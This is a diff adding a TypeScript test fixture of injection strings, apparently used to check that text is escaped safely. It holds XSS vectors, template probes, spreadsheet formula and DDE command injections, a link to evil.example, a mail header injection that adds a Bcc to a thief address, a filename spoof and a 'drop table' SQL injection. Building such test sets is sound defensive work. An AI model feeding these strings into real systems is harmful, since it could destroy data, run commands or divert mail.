@@ -1,0 +1,23 @@
+/** Strings that have been taken for something else than text: by browsers, mail programs, printers, spreadsheets. */
+export const PAYLOADS: Record<string, string> = {
+  'a script': '<script>alert(1)</script>',
+  'the end of a script': '</script><script>alert(2)</script>',
+  'the end of a title': '</title><svg onload=alert(3)>',
+  'an attribute': '" onmouseover="alert(4)" x="',
+  'an attribute in single quotes': "' autofocus onfocus='alert(5)",
+  'a picture that fails': '"><img src=x onerror=alert(6)>',
+  'a comment': '<!-- --!><b>bold</b>',
+  entities: '&lt;b&gt; &amp;amp; &#x3C;',
+  'a template': '{{7*7}} #{7*7} <%= 7*7 %>',
+  'an address that runs': 'javascript:alert(7)//https://fixit.example',
+  'a formula': '=HYPERLINK("https://evil.example","click")',
+  'a command': "=cmd|' /C calc'!A0",
+  'a sum': '+1+1',
+  'a minus': '-2+3',
+  'an at sign': '@SUM(A1:A9)',
+  'commas and quotes': 'a","b"";c\'d',
+  'a header': 'x%0d%0aBcc: thief@evil.example',
+  'turned around': '\u202Egnp.exe\u2066',
+  'line ends of another kind': 'a\u2028b\u2029c',
+  'a database': "'); drop table users; --",
+}
